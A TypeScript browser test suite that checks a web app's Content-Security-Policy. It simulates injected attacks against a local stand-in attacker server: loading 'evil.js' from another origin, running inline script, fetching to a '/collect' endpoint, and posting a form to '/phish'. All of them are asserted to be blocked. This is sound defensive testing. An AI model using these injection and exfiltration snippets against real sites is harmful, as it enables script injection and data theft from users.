import { createHash } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { listen, type RunningServer } from '../../scripts/http-server.js';
import { contentSecurityPolicy } from '../../site/build/csp.js';
import { useE2eFixture } from '../e2e/fixture.js';
import { followGo, signIn } from '../e2e/harness.js';
import { OWNER } from '../support/accounts.js';

// Every page carries a Content-Security-Policy in a <meta> tag (static hosts cannot send
// headers): scripts only from the site, connections only to the API. /go's script and style are
// inlined by the build; its policy admits exactly those two elements by their hashes. In Chromium the whole
// product works under it without a single violation, and what an injected script would try
// (a script from elsewhere, inline code, eval, a request or a form post to another origin) is
// blocked. (eval is not allowed either — no 'unsafe-eval' — but DevTools-protocol evaluation,
// which drives these tests, is exempt, so it cannot be tried from here.)

interface Violation {
  directive: string;
  blocked: string;
  page: string;
}

/** The brand colour the login form is themed with (site/src/login/LoginPage.tsx). */
const BRAND_RGB = 'rgb(23, 112, 74)'; // #17704a

describe('the Content-Security-Policy', () => {
  /** Another origin, standing for an attacker's server; it counts what reaches it. */
  let elsewhere: RunningServer & { hits: string[] };
  let violations: Violation[];
  let consoleErrors: string[];
  const e2e = useE2eFixture({
    setUpContext: async (context) => {
      // Bindings and init scripts come in through the DevTools protocol, which CSP does not govern.
      await context.exposeFunction('__cspViolation', (v: Violation) => violations.push(v));
      await context.addInitScript(`document.addEventListener('securitypolicyviolation', (e) =>
      window.__cspViolation({ directive: e.effectiveDirective, blocked: e.blockedURI, page: location.href }));`);
    },
  });

  beforeAll(async () => {
    const hits: string[] = [];
    const server = await listen((req, res) => {
      hits.push(`${req.method} ${req.url}`);
      res.writeHead(200, {
        'Access-Control-Allow-Origin': '*',
        'Content-Type': req.url?.endsWith('.js') ? 'text/javascript' : 'text/plain',
      });
      res.end(req.url?.endsWith('.js') ? 'window.__fromElsewhere = true;' : 'stolen');
    });
    elsewhere = { ...server, hits };
  });
  afterAll(async () => {
    await elsewhere?.stop();
  });

  beforeEach(async () => {
    violations = [];
    consoleErrors = [];
    elsewhere.hits.length = 0;
    e2e.page.on('console', (m) => {
      if (m.type() === 'error' && /Content Security Policy/i.test(m.text())) {
        consoleErrors.push(m.text());
      }
    });
  });

  test('every built page has the policy as its first tag after the charset; only /go has inline code, admitted by its hashes', async () => {
    const { emulator, site } = e2e;
    const htmlFiles = (await readdir(site.dir, { recursive: true })).filter((f) =>
      f.endsWith('.html'),
    );
    expect(htmlFiles.sort()).toEqual([
      '404.html',
      'go/index.html',
      'index.html',
      'login/index.html',
      'manage/index.html',
    ]);
    const sha256 = (text: string) =>
      `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
    for (const file of htmlFiles) {
      const html = await readFile(join(site.dir, file), 'utf8');
      const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)];
      const styles = [...html.matchAll(/<style>([\s\S]*?)<\/style>/g)].map((m) => m[1]!);
      const inline = scripts.filter(([, attrs]) => !/\ssrc="/.test(attrs!)).map((m) => m[2]!);
      const expected = contentSecurityPolicy(
        { supabaseUrl: emulator.url },
        { scripts: inline, styles },
      );
      expect(expected).toContain(`connect-src ${new URL(emulator.url).origin};`);
      if (file === 'go/index.html') {
        // One inline module script and one inline style, no file to fetch.
        expect(scripts.map(([, attrs]) => attrs)).toEqual([' type="module"']);
        expect(styles).toHaveLength(1);
        expect(html).not.toMatch(/<link rel="(stylesheet|modulepreload)"/);
        expect(expected).toContain(`script-src 'self' ${sha256(inline[0]!)};`);
        expect(expected).toContain(`${sha256(styles[0]!)};`);
      } else {
        expect(inline, file).toEqual([]);
        expect(styles, file).toEqual([]);
        expect(expected).toBe(contentSecurityPolicy({ supabaseUrl: emulator.url }));
      }
      expect(expected).not.toContain('unsafe-inline');
      const metas = [
        ...html.matchAll(/<meta http-equiv="Content-Security-Policy" content="([^"]*)"/g),
      ];
      expect(
        metas.map((m) => m[1]?.replaceAll('&quot;', '"')),
        file,
      ).toEqual([expected]);
      const head = html.slice(html.indexOf('<head>'), metas[0]!.index);
      expect(head.replace(/\s+/g, ''), file).toBe('<head><metacharset="UTF-8"/>');
      expect(html, file).not.toMatch(/\son[a-z]+\s*=|\sstyle\s*=|javascript:/i);
    }
  });

  test('the whole product works under it without a single violation', async () => {
    const { cards, site, page } = e2e;
    await page.goto(site.route(''));
    await page.getByRole('link', { name: 'Open the card link' }).waitFor();

    await page.goto(site.route('nowhere/'));
    await page.getByRole('heading', { name: 'Page not found' }).waitFor();

    // The Auth UI, themed at run time: its styles apply.
    await page.goto(site.route('login/'));
    const button = page.getByRole('button', { name: 'Sign in' });
    await button.waitFor();
    // Polled: the Auth UI's button fades its background in.
    await expect
      .poll(() =>
        page.evaluate(
          `getComputedStyle(document.querySelector('button[type=submit]')).backgroundColor`,
        ),
      )
      .toBe(BRAND_RGB);
    await page.getByLabel('Email address').fill(OWNER.email);
    await page.getByLabel('Your Password').fill('not-the-password');
    await button.click();
    await page.getByText('Invalid login credentials').waitFor();

    // Signed in, /manage reads the card from the API and sets it.
    await signIn(page, site, OWNER);
    await page
      .getByTestId('current-card')
      .getByText(/visitors/i)
      .waitFor();
    await page.getByLabel('Profile').selectOption('photo');
    await page.getByLabel('Date').fill(`${new Date().getUTCFullYear() + 1}-06-01`);
    await page.getByLabel('Time').fill('18:00');
    await page.getByRole('button', { name: 'Set the card!' }).click();
    await page.getByRole('status').getByText('Card set!').waitFor();

    // The Redirecting.. page makes its lookup and sends the visitor on.
    const visit = await followGo(page, site, cards);
    expect(visit.landing.path).toBe('/photo');

    expect(violations).toEqual([]);
    expect(consoleErrors).toEqual([]);
  });

  test('a script from another origin is blocked and never requested', async () => {
    const { site, page } = e2e;
    await page.goto(site.route(''));
    const outcome = await page.evaluate(`new Promise((resolve) => {
      const s = document.createElement('script');
      s.src = ${JSON.stringify(`${elsewhere.url}evil.js`)};
      s.onload = () => resolve('loaded');
      s.onerror = () => resolve('blocked');
      document.head.append(s);
    })`);
    expect(outcome).toBe('blocked');
    await expect(page.evaluate('window.__fromElsewhere')).resolves.toBeUndefined();
    expect(elsewhere.hits).toEqual([]);
    expect(violations).toContainEqual(
      expect.objectContaining({ directive: 'script-src-elem', blocked: `${elsewhere.url}evil.js` }),
    );
  });

  test('an injected inline script is blocked', async () => {
    const { site, page } = e2e;
    await page.goto(site.route('go/'));
    await page.evaluate(`(() => {
      const s = document.createElement('script');
      s.textContent = 'window.__inline = true';
      document.head.append(s);
    })()`);
    await expect(page.evaluate('window.__inline')).resolves.toBeUndefined();
    await expect
      .poll(() => violations)
      .toContainEqual(expect.objectContaining({ directive: 'script-src-elem', blocked: 'inline' }));
  });

  test('connections go to the API only: a fetch elsewhere fails and never leaves the browser', async () => {
    const { emulator, site, page } = e2e;
    await page.goto(site.route(''));
    const api = await page.evaluate(
      `fetch(${JSON.stringify(`${emulator.url}/auth/v1/settings`)}, { headers: { apikey: ${JSON.stringify(emulator.anonKey)} } }).then((r) => r.status)`,
    );
    expect(api).toBe(200);
    const other = await page.evaluate(
      `fetch(${JSON.stringify(`${elsewhere.url}collect?c=1`)}).then(() => 'sent', (e) => e.name)`,
    );
    expect(other).toBe('TypeError');
    expect(elsewhere.hits).toEqual([]);
    // The event is dispatched after the fetch has failed.
    await expect
      .poll(() => violations)
      .toContainEqual(
        expect.objectContaining({
          directive: 'connect-src',
          blocked: `${elsewhere.url}collect?c=1`,
        }),
      );
  });

  test('a form cannot post to another origin', async () => {
    const { site, page } = e2e;
    await page.goto(site.route(''));
    await page.evaluate(`(() => {
      const f = document.createElement('form');
      f.method = 'post';
      f.action = ${JSON.stringify(`${elsewhere.url}phish`)};
      document.body.append(f);
      f.submit();
    })()`);
    // First the browser's verdict on the post: the policy's report, sent when it refused to
    // navigate; only then is "nothing reached the other origin" worth saying.
    await expect
      .poll(() => violations)
      .toContainEqual(expect.objectContaining({ directive: 'form-action' }));
    expect(elsewhere.hits).toEqual([]);
    expect(page.url()).toBe(site.route(''));
    expect(violations).toContainEqual(expect.objectContaining({ directive: 'form-action' }));
  });
});
